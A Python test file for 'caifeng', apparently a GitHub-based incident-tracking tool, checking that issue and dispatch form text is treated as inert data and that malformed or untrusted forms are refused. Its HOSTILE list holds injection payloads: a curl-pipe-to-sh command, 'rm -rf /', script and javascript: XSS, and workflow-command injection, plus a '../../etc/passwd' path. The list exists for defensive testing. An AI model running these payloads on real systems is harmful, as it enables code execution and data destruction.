"""A form's text is data: it changes no other field, runs nothing, and who acts is the account that GitHub names."""

import json
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caifeng.errors import CaifengError, UsageError
from caifeng.form_fields import BY_PEOPLE, LABELS
from caifeng.forms import Form, read_form
from caifeng.models import Deed, Level, Means, Side
from tests.forms import ADDRESS, body, dispatch, issue

ZONE = ZoneInfo("Asia/Shanghai")
NOW = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
HOSTILE = (
    '"; curl http://192.0.2.1/x | sh; "',
    "$(touch /tmp/x) `id` ${IFS} && rm -rf /",
    "${{ github.token }}",
    "::set-output name=x::y",
    "\u202eRTL\u2066 \u200b",
    "\x00\x07\x1b[31m",
    "🔥" * 200,
    "<script>alert(1)</script>",
    "半个字\ud800",
    "@all ![x](javascript:alert(1))",
    "- {at: 2026-11-20, by: 别人, did: 闭环}",
)


def read(event: bytes) -> Form:
    return read_form(event, ZONE, NOW)


def refusal(event: bytes) -> str:
    with pytest.raises(CaifengError) as refused:
        read(event)
    return str(refused.value)


def test_an_issue_says_what_was_done_and_when_it_was_filed() -> None:
    form = read(issue(body(deed="处置", incident="inc-2026-0007", means="召回", note="召回 3200 台", to="消费者")))
    assert (form.incident, form.source) == ("INC-2026-0007", ADDRESS)
    act = form.act
    assert (act.deed, act.means, act.note, act.side) == (Deed.HANDLED, Means.RECALL, "召回 3200 台", Side.OFFLINE)
    assert (act.by, act.at, act.evidence) == ("lihang", datetime(2026, 11, 20, 1, 30, tzinfo=UTC), (ADDRESS,))


def test_a_dispatch_says_the_same_as_the_issue_form() -> None:
    said = {"deed": "评级", "incident": "INC-2026-0007", "level": "橙", "note": "涉及人身安全"}
    by_hand, by_issue = read(dispatch(**said, owner="", means="不填", side="不填")).act, read(issue(body(**said))).act
    assert (by_hand.deed, by_hand.level, by_hand.note) == (by_issue.deed, by_issue.level, by_issue.note)
    assert (by_hand.level, by_hand.means, by_hand.side) == (Level.ORANGE, None, None)


def test_every_deed_of_people_can_be_asked_for_and_none_of_the_machines() -> None:
    for deed in BY_PEOPLE:
        incident = "" if deed is Deed.FOUND else "INC-2026-0007"
        assert read(dispatch(deed=deed.value, incident=incident)).act.deed == deed
    assert "由采风自己记" in refusal(dispatch(deed="升级", incident="INC-2026-0007"))


def test_all_fields_of_the_closed_loop_and_of_the_review_arrive() -> None:
    act = read(
        issue(
            body(
                deed="复盘", incident="INC-2026-0007", who="用户甲", contact="是", plan="换新机", satisfaction="满意",
                closed="是", limits="闭环=3d、复盘=7d", tags="密封圈 召回", stories="S-20261119-04",
                at="2026-11-20 09:00", evidence="i-9f2c\n报告.pdf",
                review="causes: [{department: 生产部, what: 密封圈不合格}]",
            )
        )
    ).act  # fmt: skip
    assert act.loop is not None
    assert (act.loop.who, act.loop.has_contact, act.loop.is_closed) == ("用户甲", True, True)
    assert [name for name, _ in act.limits] == ["闭环", "复盘"]
    assert (act.tags, act.story_ids) == (("密封圈", "召回"), ("S-20261119-04",))
    assert (act.at, act.evidence) == (datetime(2026, 11, 20, 1, 0, tzinfo=UTC), (ADDRESS, "i-9f2c", "报告.pdf"))
    assert act.review is not None
    assert act.review.causes[0].department == "生产部"


@given(st.dictionaries(st.sampled_from(["title", "note", "owner", "problem", "plan", "who"]), st.text(max_size=60)))
def test_no_text_changes_another_field(texts: dict[str, str]) -> None:
    said = {"deed": "发现"} | texts | ({"who": texts.get("who") or "某"} if {"problem", "plan"} & texts.keys() else {})
    try:
        act = read(issue(body(**said))).act
    except CaifengError:
        return
    assert (act.deed, act.by, act.level, act.type, act.means) == (Deed.FOUND, "lihang", None, None, None)
    got = {"title": act.title, "note": act.note, "owner": act.owner}
    for key, value in got.items():
        meant = texts.get(key, "").replace("\r\n", "\n").strip()
        assert value == ("" if meant in ("_No response_", "None") else meant)


@given(st.lists(st.sampled_from([*(f"### {label}" for label in LABELS.values()), "", "橙", "坏人", "_No response_"])))
def test_headings_inside_a_text_are_refused_and_never_obeyed(lines: list[str]) -> None:
    said = body(deed="备注", incident="INC-2026-0007", note="\n".join(["真的", *lines]))
    try:
        act = read(issue(said)).act
    except UsageError as refused:
        assert "分不清" in str(refused)
        return
    assert (act.owner, act.level, act.note) == ("", None, "\n".join(["真的", *lines]).strip())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_words(text: str) -> None:
    for event in (issue(body(deed="发现", title=text, note=text)), dispatch(deed="发现", title=text, note=text)):
        form = read(event)
        assert (form.act.title, form.act.note, form.act.by) == (text.strip(), text.strip(), "lihang")


def test_the_title_of_the_issue_and_line_ends_of_windows_say_nothing() -> None:
    text = body(deed="备注", incident="INC-2026-0007", note="第一行\n第二行").replace("\n", "\r\n")
    assert read(issue(text)).act.note == "第一行\n第二行"


@pytest.mark.parametrize(
    ("event", "why"),
    [
        (b"", "不是 JSON"),
        (b"[" * 100_000, "不是 JSON"),
        (b"[]", "没有表单"),
        (b"{}", "不是案件表单"),
        (b"1" * 5000, "不是 JSON"),
        (b" " * 3_000_000, "字节"),
        (b"\xff\xfe\x00", "不是 JSON"),
        (json.dumps({"inputs": {"deed": "发现"}}).encode(), "sender"),
        (issue("x" * 1_000_000), "太长"),
        (issue(""), "不是案件表单"),
        (issue("\ud800" + "### 说明\n" * 14_000), "分不清"),
        (issue("前言\n" + body(deed="发现")), "不是案件表单"),
        (issue(body(deed="发现"), labels=[]), "标签"),
        (issue(body(deed="发现"), author_association="CONTRIBUTOR"), "只收本仓库成员"),
        (issue(body(deed="发现"), author_association="NONE"), "只收本仓库成员"),
        (issue(body(deed="发现"), user={"login": "别人"}), "issue.user"),
        (issue(body(deed="发现"), user={"login": "mallory"}), "不是同一个账号"),
        (issue(body(deed="发现"), html_url="javascript:alert(1)"), "issue.html_url"),
        (dispatch(login="li hang\n- x", deed="发现"), "sender.login"),
        (dispatch(deed="发现", by="总经理"), "没有“by”这一项"),
        (dispatch(deed="发现", note=["列表"]), "说明：须是文字"),
        (dispatch(deed="发现", note="长" * 20_001), "说明：太长"),
        (dispatch(deed="发现", title="两\n行"), "案由：只能写一行"),
        (dispatch(deed="发现", incident="INC-2026-0007"), "立案不写案件号"),
        (dispatch(deed="接收"), "没有写案件号"),
        (dispatch(deed="接收", incident="../../etc/passwd"), "案件号：应写成"),
        (dispatch(deed="处置", incident="INC-2026-0007", means="删帖"), "采风不删帖"),
        (dispatch(deed="处置", incident="INC-2026-0007", means="随便"), "只能是 发布说明、"),
        (dispatch(deed="备注", incident="INC-2026-0007", plan="赔"), "没有写当事人是谁"),
        (dispatch(deed="派责", incident="INC-2026-0007", limits="闭环"), "名称=时长"),
        (dispatch(deed="接收", incident="INC-2026-0007", at="明天"), "无法辨认"),
        (dispatch(deed="复盘", incident="INC-2026-0007", review="causes: [{what: 无部门}]"), "复盘:1 causes[0]：缺少"),
    ],
)
def test_what_is_no_sound_form_is_refused_with_a_clear_sentence(event: bytes, why: str) -> None:
    assert why in refusal(event)


def test_every_reason_is_given_at_once() -> None:
    said = refusal(dispatch(deed="x", incident="y", level="紫", other="z"))
    assert all(part in said for part in ("做了什么：", "案件号：", "级别：", "没有“other”"))
    strangers = refusal(issue(body(deed="发现"), labels=[], author_association="NONE"))
    assert strangers.count("\n- ") == 2
